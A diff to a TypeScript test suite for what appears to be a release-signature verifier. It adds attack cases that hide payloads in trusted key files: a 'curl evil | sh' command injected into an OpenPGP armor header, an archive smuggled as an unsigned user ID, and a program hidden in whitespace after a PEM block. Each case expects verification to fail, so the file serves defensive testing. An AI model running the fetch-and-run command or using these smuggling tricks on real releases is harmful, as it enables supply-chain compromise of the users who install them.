@@ -1,9 +1,12 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import type { KeyObject } from 'node:crypto'
+import { PACKET, packet } from '../../../src/signature/openpgp/packets.ts'
 import { testKey } from '../keys.ts'
 import { filesIn } from '../outcome.ts'
+import { certificateFile } from '../signature-files.ts'
 import { pemOf, sha256, signatureOf } from '../signed-files.ts'
+import { dearmored } from '../stock-verifiers.ts'
 import { startWorld } from '../world.ts'
 import type { World } from '../world.ts'
 import { APP, FILES, assertHolds, onRelease, put, signedWorld, take, upon, verifyAll } from './stage.ts'
@@ -15,6 +18,9 @@ import type { Attack } from './stage.ts'
 const TRUST = { 'public-key-fingerprint': 'any', 'trusted-public-key': 'keys/release.pem' }
 
 const foreignKey = (): Promise<KeyObject> => testKey('RSA_2048', 11)
+
+/** The OpenPGP certificate of the key that signed. */
+const ownCertificate = async (): Promise<Uint8Array> => certificateFile(await testKey('RSA_2048', 0))
 
 /** Signs everything on the release again, as if the foreign key were the signer's. */
 async function signAgain(world: World, app = 'a trojan\n'): Promise<void> {
@@ -116,6 +122,27 @@ export const RELEASE_ATTACKS: readonly Attack[] = [
     'attaches a script behind the PEM block of the trusted key',
     'VERIFICATION_FAILED: not-in-checksums',
     world => put(world, 'key.pem', `${pemOf(world.key.publicKey)}#!/bin/sh\n`)
+  ),
+  change(
+    'attaches a script in the armor headers of the OpenPGP certificate of the trusted key',
+    'VERIFICATION_FAILED: asset-unverified',
+    async world => {
+      const text = Buffer.from(await ownCertificate()).toString()
+      put(world, 'install.sh', text.replace('\n', '\nComment: ; curl evil | sh; exit 0\n'))
+    }
+  ),
+  change(
+    'attaches an archive as a user id of the OpenPGP certificate of the trusted key, which the key did not sign',
+    'VERIFICATION_FAILED: asset-unverified',
+    async world => {
+      const certificate = dearmored(await ownCertificate())
+      put(world, 'tool.pyz', Buffer.concat([certificate, packet(PACKET.userId, Buffer.from('PK\x03\x04'))]))
+    }
+  ),
+  change(
+    'attaches a program in blanks behind the PEM block of the trusted key',
+    'VERIFICATION_FAILED: asset-unverified',
+    world => put(world, 'tool.ws', `${pemOf(world.key.publicKey)}${' \t\n'.repeat(99)}`)
   ),
   change('attaches a second public key of their own', 'VERIFICATION_FAILED: key-not-trusted', async world =>
     put(world, 'new-key.pem', pemOf(await foreignKey()))
